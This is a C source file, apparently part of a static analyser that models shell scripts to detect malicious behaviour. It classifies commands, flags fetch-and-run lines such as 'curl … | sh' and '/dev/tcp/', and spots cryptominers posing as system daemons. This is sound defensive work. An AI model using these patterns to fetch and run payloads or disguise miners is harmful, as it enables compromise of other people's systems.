/* SPDX-License-Identifier: Apache-2.0 */
#include "shell/pattern.h"
#include "shell/function.h"
#include "shell/tool.h"

static const struct {
    const char *name;
    void (*run)(struct call *call);
} tools[] = {
#define TOOL(name, handler) {name, tool_##handler},
#include "shell/tool.def"
#undef TOOL
};

#define TOOL_SLOTS 1024u

/* The table above by name, made on first use: every command is looked up. */
static struct {
    struct bytes name;
    void (*run)(struct call *call);
} tool_slots[TOOL_SLOTS];
static bool tool_filled;

static uint32_t tool_slot(struct bytes name)
{
    uint32_t mix = (uint32_t)name.len * 31u + name.at[0] * 7u + name.at[name.len - 1];
    return (mix * 33u + name.at[name.len / 2] * 131u) % TOOL_SLOTS;
}

static void tools_fill(void)
{
    for (size_t i = 0; i < sizeof tools / sizeof tools[0]; i++) {
        struct bytes name = bytes_of_string(tools[i].name);
        uint32_t at = tool_slot(name);
        while (tool_slots[at].run != NULL)
            at = (at + 1) % TOOL_SLOTS;
        tool_slots[at].name = name, tool_slots[at].run = tools[i].run;
    }
    tool_filled = true;
}

void (*tool_handler(struct bytes name))(struct call *call)
{
    if (!tool_filled)
        tools_fill();
    if (name.len == 0)
        return NULL;
    for (uint32_t at = tool_slot(name); tool_slots[at].run != NULL; at = (at + 1) % TOOL_SLOTS)
        if (bytes_equal(tool_slots[at].name, name))
            return tool_slots[at].run;
    return NULL;
}

bool call_has(const struct call *call, const char *option)
{
    for (uint32_t i = 1; i < call->count; i++)
        if (bytes_equal(call->arg[i].text, bytes_of_string(option)))
            return true;
    return false;
}

bool call_flag(const struct call *call, char letter)
{
    for (uint32_t i = 1; i < call->count; i++) {
        struct bytes arg = call->arg[i].text;
        if (arg.len >= 2 && arg.len < 10 && arg.at[0] == '-' && arg.at[1] != '-' &&
            memchr(arg.at, letter, arg.len) != NULL)
            return true;
    }
    return false;
}

uint32_t call_operand(const struct call *call, uint32_t from)
{
    for (uint32_t i = from; i < call->count; i++)
        if (call->arg[i].text.len == 0 || call->arg[i].text.at[0] != '-' ||
            call->arg[i].text.len == 1)
            return i;
    return 0;
}

static struct bytes base_name(struct bytes path)
{
    size_t slash = bytes_find_last_byte(path, '/');
    return slash == BYTES_NPOS || slash + 1 == path.len ? path : bytes_from(path, slash + 1);
}

/* A bit for the first letter and the length of NAME. */
static uint64_t role_bit(struct bytes name)
{
    return 1ULL << ((name.at[0] * 7U + name.len) & 63U);
}

/* What the words of this command are to the script: tools it uses, things it removes or looks for. */
static enum shell_role role_of(const struct call *call)
{
    static const struct {
        const char *name;
        enum shell_role role;
    } roles[] = {
        {"rm", ROLE_REMOVED},       {"kill", ROLE_REMOVED},         {"pkill", ROLE_REMOVED},
        {"killall", ROLE_REMOVED},  {"chattr", ROLE_REMOVED},       {"userdel", ROLE_REMOVED},
        {"deluser", ROLE_REMOVED},  {"unlink", ROLE_REMOVED},       {"shred", ROLE_REMOVED},
        {"rmmod", ROLE_REMOVED},    {"skill", ROLE_REMOVED},        {"pidof", ROLE_SEARCHED},
        {"grep", ROLE_SEARCHED},    {"egrep", ROLE_SEARCHED},       {"fgrep", ROLE_SEARCHED},
        {"pgrep", ROLE_SEARCHED},   {"awk", ROLE_SEARCHED},         {"[", ROLE_SEARCHED},
        {"[[", ROLE_SEARCHED},      {"test", ROLE_SEARCHED},        {"ls", ROLE_SEARCHED},
        {"which", ROLE_SEARCHED},   {"ps", ROLE_SEARCHED},          {"netstat", ROLE_SEARCHED},
        {"ss", ROLE_SEARCHED},      {"lsof", ROLE_SEARCHED},        {"fuser", ROLE_REMOVED},
        {"iptables", ROLE_REMOVED}, {"dpkg-divert", ROLE_SEARCHED}, {"locate", ROLE_SEARCHED},
        {"md5sum", ROLE_SEARCHED},  {"chmod", ROLE_USED},
    };
    struct bytes name = call->name, verb = call_arg(call, 1);
    static uint64_t bits; /* of all names: few others share one */
    for (size_t i = 0, all = bits; all == 0 && i < sizeof roles / sizeof roles[0]; i++)
        bits |= role_bit(bytes_of_string(roles[i].name));
    if (name.len == 0)
        return ROLE_USED;
    bool listed = (bits & role_bit(name)) != 0;
    for (size_t i = 0; listed && i < sizeof roles / sizeof roles[0]; i++)
        if (roles[i].name[0] == name.at[0] && bytes_equal(name, bytes_of_string(roles[i].name)))
            return bytes_equal(name, BYTES("chattr")) && call->count > 1 && verb.len > 0 &&
                           verb.at[0] == '+'
                       ? ROLE_USED
                       : roles[i].role;
    if (bytes_equal(name, BYTES("sed")))
        return ROLE_SEARCHED;
    bool prints = bytes_equal(name, BYTES("echo")) || bytes_equal(name, BYTES("printf"));
    if (prints && call->count > 1) { /* names that lead nowhere from now on */
        struct shell_string line = strings_join(call->m, call->arg + 1, call->count - 1);
        return sense_is_sinkhole(line.text) ? ROLE_REMOVED : ROLE_USED;
    }
    if (bytes_equal(name, BYTES("find")))
        return call_has(call, "-delete") || call_has(call, "rm") ? ROLE_REMOVED : ROLE_SEARCHED;
    if (bytes_equal(name, BYTES("docker")) || bytes_equal(name, BYTES("podman")))
        return bytes_equal(verb, BYTES("rm")) || bytes_equal(verb, BYTES("rmi")) ||
                       bytes_equal(verb, BYTES("kill")) || bytes_equal(verb, BYTES("stop"))
                   ? ROLE_REMOVED
                   : ROLE_USED;
    if (bytes_equal(name, BYTES("systemctl")) || bytes_equal(name, BYTES("service")))
        return call_has(call, "stop") || call_has(call, "disable") || call_has(call, "mask")
                   ? ROLE_REMOVED
                   : ROLE_USED;
    if (bytes_equal(name, BYTES("apt-get")) || bytes_equal(name, BYTES("yum")) ||
        bytes_equal(name, BYTES("apt")))
        return call_has(call, "remove") || call_has(call, "purge") ? ROLE_REMOVED : ROLE_USED;
    return ROLE_USED;
}

static void span_add(struct call *call)
{
    struct machine *m = call->m;
    struct shell_report *report = m->report;
    if (report->command_count++ >= REPORT_COMMANDS_MAX)
        return;
    struct shell_span *span = arena_new_of(m->arena, struct shell_span);
    span->layer = m->layer, span->offset = m->offset, span->end = m->end;
    span->role = call->role, span->name = call->name;
    span->arg = call->arg, span->arg_count = call->count;
    *report->span_end = span, report->span_end = &span->next;
    m->span_last = span;
}

/* A command line for somebody else's shell: "curl http://192.0.2.1/x | sh" as an argument. */
static bool is_order(struct bytes text)
{
    static const char *const fetchers[] = {"curl ", "wget ", "/dev/tcp/"};
    static const char *const runners[] = {"|sh",    "| sh",    "|bash", "| bash", "chmod ",
                                          "bash -c", "; sh ", ";sh ",  "; ./",   ";./"};
    bool fetches = false, runs = false;
    bool words = memchr(text.at, ' ', text.len) != NULL || memchr(text.at, '<', text.len) != NULL;
    if (text.len >= 4096 || !words)
        return false; /* most arguments are one word */
    for (size_t i = 0; i < sizeof fetchers / sizeof fetchers[0]; i++)
        fetches |= bytes_find(text, bytes_of_string(fetchers[i]), 0) != BYTES_NPOS;
    for (size_t i = 0; fetches && i < sizeof runners / sizeof runners[0]; i++)
        runs |= bytes_find(text, bytes_of_string(runners[i]), 0) != BYTES_NPOS;
    return fetches && runs;
}

/* From the fetcher's name to the quote that ends the text around it. */
static struct bytes order_in(struct arena *arena, struct bytes text)
{
    static const char *const fetchers[] = {"curl ", "wget ", "chroot ", "exec 3<>"};
    size_t start = text.len;
    for (size_t i = 0; i < sizeof fetchers / sizeof fetchers[0]; i++) {
        size_t at = bytes_find(text, bytes_of_string(fetchers[i]), 0);
        start = at < start ? at : start;
    }
    size_t end = start;
    uint8_t quote = start > 0 && start < text.len ? text.at[start - 1] : 0;
    quote = quote == '"' || quote == '\'' ? quote : '"';
    bool nested = start > 1 && text.at[start - 2] == '\\'; /* \" opened it, \" ends it */
    while (end < text.len && text.at[end] != '\n' &&
           (text.at[end] != quote || (!nested && text.at[end - 1] == '\\')))
        end++;
    uint8_t *plain = arena_alloc(arena, end - start + 1);
    size_t len = 0;
    for (size_t i = start; i < end; i++)
        if (text.at[i] != '\\' || i + 1 == end || strchr("\"\\rn", text.at[i + 1]) == NULL)
            plain[len++] = text.at[i];
        else if (text.at[i + 1] == 'r' || text.at[i + 1] == 'n')
            plain[len++] = '\n', i++;
    return bytes_of(plain, len);
}

void orders_read(struct call *call, struct shell_string s)
{
    if (s.text.len <= 12 || !is_order(s.text))
        return;
    bool wrapped = memchr("{[\"-", s.text.at[0], 4) != NULL ||
                   bytes_find(bytes_sub(s.text, 0, 64), BYTES("\n"), 0) != BYTES_NPOS;
    if (wrapped)
        s.text = order_in(call->m->arena, s.text);
    run_layer(call->m, s, "argument", BYTES_NONE, false);
}

void call_orders(struct call *call)
{
    for (uint32_t i = 1; i < call->count && i < 16; i++)
        orders_read(call, call->arg[i]);
}

/* Mining is started with a pool, an account and nothing else to tell it by: -o HOST:PORT -u ACCOUNT. */
static void miner_flags(struct call *call)
{
    bool pool = false, account = false, asked = false;
    for (uint32_t i = 1; i + 1 < call->count; i++) {
        struct bytes option = call_arg(call, i), value = call_arg(call, i + 1);
        size_t colon = bytes_find_last_byte(value, ':');
        bool port =
            colon != BYTES_NPOS && colon + 1 < value.len && ascii_is_digit(value.at[colon + 1]);
        pool |= (bytes_equal(option, BYTES("-o")) || bytes_equal(option, BYTES("--url"))) && port;
        bool user = bytes_equal(option, BYTES("-u")) || bytes_equal(option, BYTES("--user"));
        account |= user, asked |= user && value.len > 0 && value.at[0] == 0;
    }
    static const char *const posed[] = {"dockerd", "systemd",   "sshd",    "httpd",  "nginx", "kubelet",
                                        "crond",   "rsyslogd",  "kworker", "containerd", "dbus-daemon"};
    if (!pool || !account)
        return;
    call->m->account_asked |= asked && !call->background && !call->wrapped && !call->silent;
    sense(call->m, BEHAVIOUR_M1, ROLE_USED, call->name);
    for (size_t i = 0; i < sizeof posed / sizeof posed[0]; i++)
        if (bytes_starts(call->name, bytes_of_string(posed[i])))
            sense(call->m, BEHAVIOUR_V13, ROLE_USED, call->path);
}

/* A fetched program called by its name alone, through PATH. */
static struct file *fetched_named(struct machine *m, struct bytes name)
{
    for (uint32_t i = m->files->count; name.len > 1 && i > 0 && m->files->count - i < 32; i--) {
        struct file *file = m->files->row[i - 1].value;
        if (file != NULL && file->fetch != NULL && file->executable &&
            bytes_equal(base_name(file->path), name))
            return file;
    }
    return NULL;
}

/* The file of the script's own that PATTERN, a path with wildcards, stands for. */
static struct file *file_matching(struct machine *m, struct bytes pattern)
{
    for (uint32_t i = m->files->count; i > 0 && m->files->count - i < 32; i--) {
        struct file *file = m->files->row[i - 1].value;
        if (file != NULL && (file->fetch != NULL || file->written) && pattern_matches(pattern, file->path))
            return file;
    }
    return NULL;
}

/* A program nobody here knows: a file of the script's own, a fetcher under another name, or just output. */
static void unknown_run(struct call *call)
{
    struct machine *m = call->m;
    struct file *file = file_find(m, call->path);
    if (file == NULL && memchr(call->path.at, '/', call->path.len) == NULL)
        file = fetched_named(m, call->path);
    if (file == NULL && (memchr(call->path.at, '*', call->path.len) != NULL ||
                         memchr(call->path.at, '?', call->path.len) != NULL))
        file = file_matching(m, call->path);
    if (file != NULL)
        call->path = file->path;
    call->out = call_unknown(call, call->has_in ? call->in : (struct shell_string){0});
    for (uint32_t i = 1; i < call->count && i < 32; i++) {
        struct bytes arg = call_arg(call, i);
        bool url = bytes_starts(arg, BYTES("http://")) || bytes_starts(arg, BYTES("https://")) ||
                   bytes_starts(arg, BYTES("ftp://"));
        if (url && !call->has_in && file == NULL) { /* cd1 -fsSL http://..: a renamed downloader */
            tool_fetch(call);
            return;
        }
        if (call->arg[i].taint != 0 && call->out.taint == 0)
            call->out.taint = call->arg[i].taint, call->out.step = call->arg[i].step;
    }
    miner_flags(call);
    see_disks(call);
    if (call->path.at[0] == 0)
        see_runtime(call);
    call_orders(call);
    if (call->has_in && call->in.text.at != NULL)
        orders_read(call, call->in);
    orders_run(call, call->arg[0]);
    if (memchr(call->path.at, '/', call->path.len) != NULL || file != NULL || call->path.at[0] == 0)
        execute_file(call, call->path, false);
}

void call_run(struct call *call)
{
    struct machine *m = call->m;
    if (m->recursion > 150)
        return;
    m->recursion++;
    call->path = call->arg[0].text;
    call->name = base_name(call->path);
    struct bytes *renamed = table_get(m->tools, call->name);
    if (renamed != NULL)
        call->name = *renamed;
    call->role = role_of(call);
    if (call->path.len == 0) {
        m->recursion--;
        return;
    }
    span_add(call);
    void (*run)(struct call *) = tool_handler(call->name);
    bool own = (call->path.at[0] == '.' || bytes_starts(call->path, BYTES("/tmp"))) &&
               file_find(m, call->path) != NULL;
    static const char *const common[] = {"install", "link", "test", "host", "mail", "setup", NULL};
    bool local = call->path.at[0] == '.' || sense_is_temporary(call->path);
    for (int i = 0; local && common[i] != NULL; i++) /* ./install is nobody's install(1) */
        own |= bytes_equal(call->name, bytes_of_string(common[i]));
    sense_call(call);
    if (own)
        unknown_run(call);
    else if (function_call(call))
        ;
    else if (run != NULL)
        run(call);
    else
        unknown_run(call);
    m->recursion--;
}

void call_inner(struct call *call, uint32_t first)
{
    if (first >= call->count)
        return;
    struct call inner = *call;
    inner.arg = call->arg + first, inner.count = call->count - first;
    inner.out = (struct shell_string){0};
    call_run(&inner);
    call->out = inner.out;
}
